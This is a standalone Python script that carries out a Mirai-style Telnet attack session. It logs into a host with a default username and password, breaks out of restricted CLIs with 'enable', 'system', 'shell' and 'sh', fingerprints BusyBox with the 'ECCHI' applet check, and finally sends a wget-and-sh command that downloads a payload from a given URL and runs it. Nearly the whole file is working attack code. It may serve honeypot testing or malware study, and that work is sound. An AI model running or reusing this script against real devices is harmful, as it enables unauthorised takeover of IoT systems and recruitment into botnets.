#!/usr/bin/env python3
"""A Mirai-style Telnet session, as its scanner and loader speak it:
refuse every option, log in with a default pair, break out of restricted
CLIs (enable, system, shell, sh), check for BusyBox with a random applet
name, then try to fetch and run a payload. Prints the server's bytes.

usage: mirai_telnet.py HOST PORT USER PASSWORD URL
"""
import socket
import sys
import time

host, port, user, password, url = sys.argv[1], int(sys.argv[2]), *sys.argv[3:6]
s = socket.create_connection((host, port), timeout=10)
buf = b""


def read_until(*marks, timeout=8.0):
    """Reads, answering every DO/WILL with WONT/DONT, until a mark."""
    global buf
    end = time.time() + timeout
    while not any(m in buf for m in marks):
        if time.time() > end:
            raise SystemExit("timeout waiting for %r; got %r" % (marks, buf))
        s.settimeout(max(0.1, end - time.time()))
        d = s.recv(4096)
        if not d:
            raise SystemExit("closed; got %r" % buf)
        i = 0
        while i < len(d):
            if d[i] == 255 and i + 2 < len(d) and d[i + 1] in (251, 253):
                s.sendall(bytes([255, 252 if d[i + 1] == 253 else 254, d[i + 2]]))
                i += 3
                continue
            buf += d[i:i + 1]
            i += 1
    out, buf = buf, b""
    return out


out = read_until(b"ogin: ")
s.sendall(user.encode() + b"\r\n")
out += read_until(b"assword: ")
s.sendall(password.encode() + b"\r\n")
out += read_until(b"# ", b"$ ", b"incorrect")
for cmd in ["enable", "system", "shell", "sh", "/bin/busybox ECCHI"]:
    s.sendall(cmd.encode() + b"\r\n")
    out += read_until(b"ECCHI: applet not found" if "ECCHI" in cmd else b"# ")
s.sendall(("cd /tmp || cd /var/run; /bin/busybox wget %s -O x.sh; sh x.sh; /bin/busybox ECCHI\r\n" % url).encode())
out += read_until(b"ECCHI: applet not found")
s.sendall(b"exit\r\n")
try:
    out += read_until(b"logout")
except SystemExit:
    pass
sys.stdout.write(out.decode("latin-1"))
